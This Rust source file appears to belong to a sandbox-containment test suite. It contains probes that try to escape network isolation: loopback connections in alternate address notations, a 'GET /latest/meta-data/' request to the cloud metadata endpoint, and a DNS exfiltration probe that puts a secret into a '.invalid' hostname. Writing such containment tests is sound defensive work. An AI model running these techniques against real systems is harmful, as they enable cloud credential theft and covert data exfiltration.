//! `socket`: try every kind of network access std offers.
//!
//! Loopback targets use `--port=N` (default 80) so a test can run a listener
//! there and check that nothing arrived. Targets off this machine (the cloud
//! metadata address 169.254.169.254 and a public DNS name) are only tried
//! with `--external=yes`: if containment were broken, a default run would
//! otherwise send real traffic off the machine.

use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::process::ExitCode;

use crate::{Ctx, attempt};

const PROBE: &[u8] = b"bulkhead-hostile\n";

fn port(ctx: &Ctx) -> Option<u16> {
    match ctx.param("port").map(str::parse).transpose() {
        Ok(port) => Some(port.unwrap_or(80)),
        Err(e) => {
            eprintln!("hostile: bad --port: {e}");
            None
        }
    }
}

/// `socket`: every kind of attempt below, in one job.
pub fn socket(ctx: &Ctx) -> ExitCode {
    let Some(port) = port(ctx) else {
        return ExitCode::from(2);
    };
    let external = ctx.param("external") == Some("yes");

    let mut targets = vec![
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
    ];
    if external {
        targets.push("169.254.169.254:80".to_owned());
    } else {
        println!("attempt connect 169.254.169.254:80: skipped (pass --external=yes)");
    }
    for target in &targets {
        let addr: SocketAddr = target.parse().expect("literal socket address");
        if let Some(mut stream) = attempt(format!("connect {target}"), TcpStream::connect(addr)) {
            attempt(format!("send to {target}"), stream.write_all(PROBE));
        }
    }

    if let Some(socket) = attempt("udp bind 0.0.0.0:0", UdpSocket::bind("0.0.0.0:0")) {
        let to = format!("127.0.0.1:{port}");
        attempt(format!("udp send_to {to}"), socket.send_to(PROBE, &to));
    }

    if let Some(listener) = attempt("listen 0.0.0.0:8080", TcpListener::bind("0.0.0.0:8080")) {
        let local = listener.local_addr().map(|a| a.to_string());
        attempt("listener local_addr", local).inspect(|a| println!("  bound {a}"));
    }

    let mut names = vec!["localhost"];
    if external {
        names.push("example.com");
    } else {
        println!("attempt resolve example.com: skipped (pass --external=yes)");
    }
    for name in names {
        let resolved = (name, 80)
            .to_socket_addrs()
            .map(|addrs| addrs.collect::<Vec<_>>());
        if let Some(addrs) = attempt(format!("resolve {name}"), resolved) {
            for addr in addrs {
                println!("  address {addr}");
            }
        }
    }
    println!("done");
    ExitCode::SUCCESS
}

/// `tcp-connect`: TCP to loopback on `--port` in every notation: IPv4,
/// IPv6, IPv4-mapped IPv6, `0.0.0.0`, and the decimal form `2130706433`.
pub fn tcp_connect(ctx: &Ctx) -> ExitCode {
    let Some(port) = port(ctx) else {
        return ExitCode::from(2);
    };
    for target in [
        format!("127.0.0.1:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("0.0.0.0:{port}"),
        format!("127.1.2.3:{port}"),
    ] {
        let addr: SocketAddr = target.parse().expect("literal socket address");
        if let Some(mut stream) = attempt(format!("connect {target}"), TcpStream::connect(addr)) {
            attempt(format!("send to {target}"), stream.write_all(PROBE));
        }
    }
    // Names resolve through the host's resolver; a decimal IPv4 is one.
    let decimal = format!("2130706433:{port}");
    if let Some(mut stream) = attempt(format!("connect {decimal}"), TcpStream::connect(&decimal)) {
        attempt(format!("send to {decimal}"), stream.write_all(PROBE));
    }
    println!("done");
    ExitCode::SUCCESS
}

/// `tcp-linklocal`: the cloud metadata endpoint, 169.254.169.254:80, and
/// its IPv6 form (link-local: never routed off this network segment).
pub fn tcp_linklocal(_ctx: &Ctx) -> ExitCode {
    for target in ["169.254.169.254:80", "[fd00:ec2::254]:80", "[fe80::1]:80"] {
        let addr: SocketAddr = target.parse().expect("literal socket address");
        if let Some(mut stream) = attempt(format!("connect {target}"), TcpStream::connect(addr)) {
            attempt(
                format!("send to {target}"),
                stream.write_all(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n"),
            );
        }
    }
    println!("done");
    ExitCode::SUCCESS
}

/// `udp-send`: datagrams to loopback `--port`, IPv4 and IPv6.
pub fn udp_send(ctx: &Ctx) -> ExitCode {
    let Some(port) = port(ctx) else {
        return ExitCode::from(2);
    };
    for (bind, to) in [
        ("0.0.0.0:0", format!("127.0.0.1:{port}")),
        ("[::]:0", format!("[::1]:{port}")),
        ("127.0.0.1:0", format!("127.0.0.1:{port}")),
    ] {
        if let Some(socket) = attempt(format!("udp bind {bind}"), UdpSocket::bind(bind)) {
            attempt(format!("udp send_to {to}"), socket.send_to(PROBE, &to));
            attempt(format!("udp connect {to}"), socket.connect(&to));
        }
    }
    println!("done");
    ExitCode::SUCCESS
}

/// `tcp-listen`: open listening sockets, to be reached from outside.
pub fn tcp_listen(_ctx: &Ctx) -> ExitCode {
    for addr in ["0.0.0.0:8080", "127.0.0.1:0", "[::]:0", "0.0.0.0:0"] {
        if let Some(listener) = attempt(format!("listen {addr}"), TcpListener::bind(addr)) {
            let local = listener.local_addr().map(|a| a.to_string());
            attempt("listener local_addr", local).inspect(|a| println!("  bound {a}"));
            attempt("set_nonblocking", listener.set_nonblocking(true));
            attempt("accept", listener.accept().map(|_| ()));
        }
    }
    println!("done");
    ExitCode::SUCCESS
}

/// `dns`: resolve names, the exfiltration channel that needs no
/// connection: `localhost`, and a name carrying data (`--canary=`) under
/// the reserved `.invalid` domain, so it never reaches a real zone.
pub fn dns(ctx: &Ctx) -> ExitCode {
    let secret = ctx.param("canary").unwrap_or("secret");
    for name in ["localhost".to_owned(), format!("{secret}.exfil.invalid")] {
        let resolved = (name.as_str(), 80)
            .to_socket_addrs()
            .map(|addrs| addrs.collect::<Vec<_>>());
        if let Some(addrs) = attempt(format!("resolve {name}"), resolved) {
            for addr in addrs {
                println!("  address {addr}");
            }
        }
    }
    println!("done");
    ExitCode::SUCCESS
}
